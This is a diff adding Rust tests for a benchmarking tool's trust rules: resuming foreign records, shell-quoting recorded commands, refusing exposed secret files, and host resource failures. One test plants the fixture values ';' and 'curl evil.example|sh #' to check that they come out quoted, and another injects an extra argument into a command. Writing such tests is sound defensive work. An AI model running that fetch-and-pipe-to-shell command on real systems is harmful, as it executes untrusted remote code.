@@ -1,0 +1,238 @@
+//! Trust: what a record, a study or a file from elsewhere may have done here, and what is the host's own failure.
+
+use std::fs::{self, Permissions};
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::process::CommandExt;
+use std::path::Path;
+use std::process::Command;
+
+use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};
+use rustix::process::{Resource, Rlimit, setrlimit};
+use tare_record::Entry;
+use tare_record::entry::{from_line, to_line};
+
+use crate::kill::under_way;
+use crate::program::{Program, Said};
+
+/// A session of a command of the user's, broken off in its rounds; the command leaves this file.
+fn broken_off(program: &Program) -> std::path::PathBuf {
+    let proof = program.path("ran.html");
+    let study = format!(
+        "name = 'mine'\ntitle = 'x'\nabout = ''\nbudget = '1m'\n[probe.x]\ncommand = ['touch', '{}']\n",
+        proof.display()
+    );
+    fs::write(program.path("mine.toml.html"), study).unwrap();
+    fs::rename(program.path("mine.toml.html"), program.path("mine.toml")).unwrap();
+    let mut child = under_way(program, &["mine.toml", "--in", "native"]);
+    child.kill().unwrap();
+    child.wait().unwrap();
+    fs::remove_file(program.path("mine.toml")).unwrap();
+    assert_eq!(program.run(&["clean"]).code, Some(0));
+    fs::remove_file(&proof).unwrap();
+    proof
+}
+
+/// A record with each of its entries changed.
+fn change(from: &Path, to: &Path, change: impl Fn(&mut Entry)) {
+    let bytes = fs::read(from).unwrap();
+    let entries = bytes.split_inclusive(|&b| b == b'\n').map(|line| {
+        let mut entry = from_line(line)?;
+        change(&mut entry);
+        Some(to_line(&entry))
+    });
+    fs::write(to, entries.map_while(|line| line).collect::<String>()).unwrap();
+}
+
+#[test]
+fn a_record_from_elsewhere_is_resumed_only_when_it_is_trusted() {
+    let program = Program::new();
+    let proof = broken_off(&program);
+    let resume = ["run", "--resume", "s.tare", "--budget", "8s"];
+    let elsewhere = |more: &[&str]| {
+        let arguments = [&resume[..], more].concat();
+        let mut command = program.command(&arguments);
+        Said::of(command.env("XDG_STATE_HOME", program.path("state/other")).output().unwrap())
+    };
+    let said = elsewhere(&[]);
+    assert_eq!(said.code, Some(2), "{said:?}");
+    assert!(!proof.exists(), "{said:?}");
+    assert!(said.err.contains(&format!("touch {}", proof.display())), "{said:?}");
+    assert!(said.err.contains("--trust"), "{said:?}");
+    // What was changed since it began here is from elsewhere, too.
+    change(&program.path("s.tare"), &program.path("changed.tare"), |entry| {
+        if let Entry::Plan(plan) = entry {
+            let command = plan.cases[0].case.parameters.0.get_mut("command").unwrap();
+            *command = command.replace("touch", "touch\",\"--");
+        }
+    });
+    let said = program.run(&["run", "--resume", "changed.tare", "--budget", "8s"]);
+    assert_eq!(said.code, Some(2), "{said:?}");
+    assert!(!proof.exists(), "{said:?}");
+    let said = elsewhere(&["--trust"]);
+    assert_eq!(said.code, Some(0), "{said:?}");
+    assert!(proof.exists());
+}
+
+#[test]
+fn what_began_here_is_resumed_without_a_question() {
+    let program = Program::new();
+    let proof = broken_off(&program);
+    let said = program.run(&["run", "--resume", "s.tare", "--budget", "8s"]);
+    assert_eq!(said.code, Some(0), "{said:?}");
+    assert!(proof.exists());
+}
+
+#[test]
+fn words_of_a_record_are_quoted_where_they_are_shown_to_be_copied() {
+    let program = Program::new();
+    let only = ["--in", "native", "--only", "sys.getppid", "--rounds", "2", "--record", "s.tare"];
+    assert_eq!(program.run(&[&["run"][..], &only].concat()).code, Some(0));
+    change(&program.path("s.tare"), &program.path("changed.tare"), |entry| {
+        if let Entry::Record { header, .. } = entry {
+            header.command = ["run", ";", "curl evil.example|sh #", "it's"].map(str::to_owned).to_vec();
+            header.binary = "0".repeat(64);
+        }
+    });
+    let quoted = r"tare run ';' 'curl evil.example|sh #' 'it'\''s'";
+    let said = program.run(&["report", "changed.tare"]);
+    let unfolded = said.out.split_whitespace().collect::<Vec<_>>().join(" ");
+    assert!(unfolded.contains(quoted), "{}", said.out);
+    let said = program.run(&["run", "--resume", "changed.tare", "--trust"]);
+    assert!(said.err.contains(quoted), "{}", said.err);
+    // Words are kept as they were typed.
+    let said = program.run(&["report", "--json", "s.tare"]);
+    assert_eq!(said.json()["session"]["command"][4], "sys.getppid", "{}", said.out);
+}
+
+#[test]
+fn a_pattern_is_kept_raw_and_shown_quoted() {
+    let program = Program::new();
+    let only = ["--in", "native", "--only", "sys.getpp*", "--rounds", "2", "--record", "s.tare"];
+    let said = program.run(&[&["run"][..], &only].concat());
+    assert!(said.out.contains("--only 'sys.getpp*'"), "{}", said.out);
+    let recording = tare_record::read(&program.path("s.tare")).unwrap();
+    assert!(recording.session.header.command.contains(&"sys.getpp*".to_owned()));
+}
+
+/// A session whose journal soon fills a file system of one page: the paths in it are long.
+#[test]
+fn a_journal_that_cannot_be_written_is_the_hosts_own_failure() {
+    if !rustix::process::geteuid().is_root() {
+        return println!("SKIPPED a_journal_that_cannot_be_written: only root can mount");
+    }
+    let program = Program::new();
+    let state = program.path("state");
+    let deep = ["x".repeat(200), "y".repeat(200), "z".repeat(200), "w".repeat(200)].join("/");
+    let longer = format!("{deep}/{}/{}", "v".repeat(200), "u".repeat(200));
+    fs::create_dir(&state).unwrap();
+    let mut said = Vec::new();
+    for scratch in [deep, longer] {
+        mount("none", &state, "tmpfs", MountFlags::empty(), Some(c"size=4k,mode=0700")).unwrap();
+        let scratch = program.path("scratch.html").join(scratch);
+        fs::create_dir_all(&scratch).unwrap();
+        let mut command = Command::new(env!("CARGO_BIN_EXE_tare"));
+        command.args(["run", "--only", "null", "--rounds", "4", "--in", "native,container", "--scratch"]);
+        command.arg(scratch).env("XDG_STATE_HOME", &state).current_dir(program.path(""));
+        said.push(Said::of(command.output().unwrap()));
+        unmount(&state, UnmountFlags::DETACH).unwrap();
+    }
+    for said in said {
+        assert_eq!(said.code, Some(4), "{said:?}");
+        assert!(said.err.contains("cannot write to the journal"), "{said:?}");
+        assert!(!said.err.contains("cannot be entered"), "{said:?}");
+    }
+}
+
+#[test]
+fn descriptors_that_run_out_are_the_hosts_own_failure() {
+    let program = Program::new();
+    let mut command =
+        program.command(&["run", "--in", "native,container", "--only", "null", "--rounds", "2"]);
+    let few = Rlimit { current: Some(11), maximum: Some(11) };
+    // SAFETY: setrlimit is one system call, which allocates nothing.
+    unsafe { command.pre_exec(move || Ok(setrlimit(Resource::Nofile, few)?)) };
+    let said = Said::of(command.output().unwrap());
+    assert_eq!(said.code, Some(1), "{said:?}");
+    assert!(said.err.contains("Too many open files"), "{said:?}");
+    assert!(!said.err.contains("cannot be entered"), "{said:?}");
+}
+
+#[test]
+fn a_home_that_is_not_there_is_not_made() {
+    let program = Program::new();
+    let home = program.path("nowhere");
+    for arguments in
+        [&["run", "--in", "native", "--only", "null", "--rounds", "2"][..], &["clean"], &["check"]]
+    {
+        let mut command = program.command(arguments);
+        command.env_remove("XDG_STATE_HOME").env_remove("XDG_CACHE_HOME").env("HOME", &home);
+        let said = Said::of(command.output().unwrap());
+        assert!(!home.exists(), "{said:?}");
+        assert!(arguments[0] == "check" || said.code == Some(4), "{said:?}");
+    }
+}
+
+#[test]
+fn a_secret_file_that_others_may_read_or_own_is_refused() {
+    let program = Program::new();
+    let file = program.path("secret");
+    fs::write(&file, "ab".repeat(32)).unwrap();
+    let peer = format!("tare://127.0.0.1:1/?secret-file={}", file.display());
+    let refused = |why: &str| {
+        let said = program.run(&["check", "--peer", &peer]);
+        assert_eq!(said.code, Some(4), "{why}: {said:?}");
+        assert!(said.err.contains(why), "{said:?}");
+    };
+    fs::set_permissions(&file, Permissions::from_mode(0o644)).unwrap();
+    refused("others may read it");
+    fs::set_permissions(&file, Permissions::from_mode(0o600)).unwrap();
+    if !rustix::process::geteuid().is_root() {
+        return println!("SKIPPED a_secret_file_that_others_own: only root can give files away");
+    }
+    std::os::unix::fs::chown(&file, Some(65534), Some(65534)).unwrap();
+    refused("another user owns it");
+    let mut serve =
+        program.command(&["serve", "--listen", "127.0.0.1:0", "--expires", "1s", "--secret-file"]);
+    let said = Said::of(serve.arg(&file).output().unwrap());
+    assert_eq!(said.code, Some(4), "{said:?}");
+    assert!(said.err.contains("another user owns it"), "{said:?}");
+}
+
+#[test]
+fn the_hint_for_a_netserver_names_no_secret() {
+    let program = Program::new();
+    let only = ["--in", "native", "--only", "null", "--rounds", "2", "--record", "s.tare"];
+    assert_eq!(program.run(&[&["run"][..], &only].concat()).code, Some(0));
+    for (peer, hint) in [
+        ("netperf://h:12865", "--peer netperf://h:12865\n"),
+        ("tare://h:7", "--peer 'tare://h:7/#SECRET'\n"),
+        ("netperf://h;x", "--peer 'netperf://h;x'\n"),
+    ] {
+        let changed = program.path("changed.tare");
+        change(&program.path("s.tare"), &changed, |entry| {
+            if let Entry::Plan(plan) = entry {
+                plan.cases[0].case.peer = Some(peer.into());
+            }
+        });
+        let said = program.run(&["run", "--resume", "changed.tare", "--trust"]);
+        assert_eq!(said.code, Some(2), "{said:?}");
+        assert!(said.err.contains(hint), "{said:?}");
+    }
+}
+
+#[test]
+fn a_hanging_start_does_not_outlast_the_budget() {
+    let program = Program::new();
+    let runtime = program.path("hang.html");
+    fs::write(&runtime, "#!/bin/sh\ncase \"$1\" in --version) echo 1; exit;; esac\nexec sleep 600\n")
+        .unwrap();
+    fs::set_permissions(&runtime, Permissions::from_mode(0o755)).unwrap();
+    let targets = format!("native,oci:{}", runtime.display());
+    let mut command = Command::new("timeout");
+    let run = program.command(&["run", "--only", "sys.getppid", "--budget", "10s", "--in", &targets]);
+    command.arg("40").arg(run.get_program()).args(run.get_args()).current_dir(program.path(""));
+    command.env("XDG_STATE_HOME", program.path("state"));
+    let said = Said::of(command.output().unwrap());
+    // 124: it had to be ended, so that its starts took more than four times the budget.
+    assert_eq!(said.code, Some(0), "{said:?}");
+}
